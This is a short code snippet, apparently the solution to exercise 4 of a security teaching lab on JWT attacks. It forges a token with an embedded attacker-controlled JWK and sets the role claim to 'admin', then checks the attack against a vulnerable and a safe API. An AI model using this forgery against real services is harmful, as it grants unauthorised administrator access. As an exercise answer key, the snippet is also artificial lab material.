# Solution: 10-attack-lab, exercise 4
forged_4 = forge_with_embedded_jwk(parts.header, {**parts.payload, 'role': 'admin'}, my_key)

check_attack('embedded jwk', forged_4, jwk_api, safe)
